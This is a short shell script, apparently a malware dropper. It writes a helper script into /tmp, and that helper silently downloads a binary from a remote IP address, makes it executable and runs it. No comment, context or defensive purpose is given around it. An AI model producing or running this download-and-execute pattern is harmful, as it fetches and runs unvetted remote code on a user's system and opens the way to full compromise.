#!/bin/sh
cat > /tmp/get.sh <<'END'
curl -s http://192.0.2.5/b -o /tmp/b
chmod 755 /tmp/b
/tmp/b
END
sh /tmp/get.sh
